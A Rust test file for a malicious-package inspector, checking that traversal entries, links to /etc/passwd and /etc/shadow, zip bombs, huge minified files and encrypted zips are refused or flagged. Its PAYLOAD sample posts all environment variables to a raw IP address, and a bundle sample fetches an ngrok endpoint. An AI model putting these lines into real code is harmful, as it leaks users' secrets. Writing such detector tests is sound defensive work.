//! Archive safety (issue 7, "Safety"): traversal, absolute paths and links are refused and
//! reported; a zip bomb is refused by its compression ratio; a 50 MB minified file is
//! handled within the caps; encrypted zips open with the password. Archives are built in
//! a temporary directory; the inspector itself writes nothing.

use std::io::Write;
use std::time::{Duration, Instant};

use inspect::{inspect_path, Label, Options};
use zip::write::SimpleFileOptions;

const PAYLOAD: &str =
    "import os, requests\nrequests.post('http://45.9.148.23/x', json=dict(os.environ))\n";

fn write_zip(path: &std::path::Path, build: impl FnOnce(&mut zip::ZipWriter<std::fs::File>)) {
    let file = std::fs::File::create(path).unwrap();
    let mut zip = zip::ZipWriter::new(file);
    build(&mut zip);
    zip.finish().unwrap();
}

/// A tar entry whose name is written raw, so it may hold `..` or an absolute path.
fn raw_tar_entry(name: &str, kind: tar::EntryType, link: Option<&str>, body: &[u8]) -> Vec<u8> {
    let mut header = tar::Header::new_old();
    {
        let old = header.as_old_mut();
        old.name[..name.len()].copy_from_slice(name.as_bytes());
        if let Some(link) = link {
            old.linkname[..link.len()].copy_from_slice(link.as_bytes());
        }
    }
    header.set_entry_type(kind);
    header.set_size(body.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    let mut out = header.as_bytes().to_vec();
    out.extend_from_slice(body);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

#[test]
fn tar_traversal_absolute_paths_and_links_are_refused_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("evil-1.0.tar.gz");
    let mut raw = Vec::new();
    raw.extend(raw_tar_entry(
        "evil-1.0/../../escape.py",
        tar::EntryType::Regular,
        None,
        PAYLOAD.as_bytes(),
    ));
    raw.extend(raw_tar_entry(
        "/etc/evil.py",
        tar::EntryType::Regular,
        None,
        PAYLOAD.as_bytes(),
    ));
    raw.extend(raw_tar_entry(
        "evil-1.0/link.py",
        tar::EntryType::Symlink,
        Some("/etc/passwd"),
        b"",
    ));
    raw.extend(raw_tar_entry(
        "evil-1.0/hard.py",
        tar::EntryType::Link,
        Some("/etc/shadow"),
        b"",
    ));
    raw.extend(raw_tar_entry(
        "evil-1.0/evil/__init__.py",
        tar::EntryType::Regular,
        None,
        PAYLOAD.as_bytes(),
    ));
    raw.extend([0u8; 1024]);
    let mut gz = flate2::write::GzEncoder::new(
        std::fs::File::create(&path).unwrap(),
        flate2::Compression::fast(),
    );
    gz.write_all(&raw).unwrap();
    gz.finish().unwrap();

    let report = inspect_path(&path, &Options::default()).expect("archive is readable");
    let messages: Vec<&str> = report.errors.iter().map(|e| e.message.as_str()).collect();
    assert!(messages.iter().any(|m| m.contains("`..`")), "{messages:?}");
    assert!(
        messages.iter().any(|m| m.contains("absolute path")),
        "{messages:?}"
    );
    assert_eq!(
        messages.iter().filter(|m| m.contains("link")).count(),
        2,
        "{messages:?}"
    );
    // The one safe entry is still inspected, and nothing was written anywhere.
    let p = &report.packages[0];
    assert_eq!(p.files_analyzed, 1);
    assert_eq!(p.verdict, Label::Malicious, "{:#?}", p.signals);
    assert!(!dir.path().join("escape.py").exists());
    assert!(!std::path::Path::new("/etc/evil.py").exists());
}

#[test]
fn zip_traversal_and_symlinks_are_refused_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("evil-1.0-py3-none-any.whl");
    write_zip(&path, |zip| {
        let o = SimpleFileOptions::default();
        zip.start_file("../../escape.py", o).unwrap();
        zip.write_all(PAYLOAD.as_bytes()).unwrap();
        zip.add_symlink("evil/link.py", "/etc/passwd", o).unwrap();
        zip.start_file("evil/__init__.py", o).unwrap();
        zip.write_all(b"print('hi')\n").unwrap();
    });
    let report = inspect_path(&path, &Options::default()).expect("archive is readable");
    let messages: Vec<&str> = report.errors.iter().map(|e| e.message.as_str()).collect();
    assert!(messages.iter().any(|m| m.contains("`..`")), "{messages:?}");
    assert!(messages.iter().any(|m| m.contains("link")), "{messages:?}");
    assert_eq!(report.packages[0].files_analyzed, 1);
}

#[test]
fn zip_bomb_is_refused_by_its_compression_ratio() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("bomb-1.0.zip");
    write_zip(&path, |zip| {
        let o = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        zip.start_file("bomb/__init__.py", o).unwrap();
        let zeros = vec![b' '; 1024 * 1024];
        for _ in 0..48 {
            zip.write_all(&zeros).unwrap();
        }
    });
    assert!(std::fs::metadata(&path).unwrap().len() < 1024 * 1024);
    let report = inspect_path(&path, &Options::default()).expect("archive is readable");
    let refused = report
        .errors
        .iter()
        .any(|e| e.message.contains("compression ratio"));
    assert!(refused, "{:?}", report.errors);
    assert_eq!(report.packages[0].files_analyzed, 0);
}

#[test]
fn fifty_megabyte_minified_file_is_handled_within_the_caps() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("bundle");
    std::fs::create_dir(&pkg).unwrap();
    std::fs::write(
        pkg.join("package.json"),
        r#"{"name": "bundle", "version": "1.0.0"}"#,
    )
    .unwrap();
    let mut text = String::with_capacity(50 * 1024 * 1024 + 100);
    while text.len() < 50 * 1024 * 1024 {
        text.push_str("var a=function(b){return b+1};");
    }
    text.push_str("fetch('https://x.ngrok-free.app/c');");
    std::fs::write(pkg.join("bundle.min.js"), &text).unwrap();

    let started = Instant::now();
    let report = inspect_path(&pkg, &Options::default()).expect("directory is readable");
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "took {:?}",
        started.elapsed()
    );
    let p = &report.packages[0];
    let note = p
        .notes
        .iter()
        .find(|n| n.file == "bundle.min.js")
        .expect("a note on the file");
    assert!(
        note.reason == "minified" || note.reason == "too-large",
        "{note:?}"
    );
    assert!(
        p.signals.iter().any(|s| s.code == "suspicious-endpoint"),
        "strings still scanned"
    );
}

#[test]
fn password_protected_zip_is_read_with_the_password_and_reported_without_it() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("sample.zip");
    write_zip(&path, |zip| {
        let o = SimpleFileOptions::default().with_aes_encryption(zip::AesMode::Aes256, "infected");
        zip.start_file("sample/__init__.py", o).unwrap();
        zip.write_all(PAYLOAD.as_bytes()).unwrap();
    });

    let without = inspect_path(&path, &Options::default()).expect("archive is readable");
    assert!(
        without
            .errors
            .iter()
            .any(|e| e.message.contains("--zip-password")),
        "{:?}",
        without.errors
    );
    assert_eq!(without.packages[0].files_analyzed, 0);

    let options = Options {
        zip_password: Some("infected".into()),
        ..Options::default()
    };
    let with = inspect_path(&path, &options).expect("archive is readable");
    assert!(with.errors.is_empty(), "{:?}", with.errors);
    assert_eq!(with.packages[0].files_analyzed, 1);
    assert!(with.packages[0]
        .signals
        .iter()
        .any(|s| s.code == "data-exfiltration"));
}
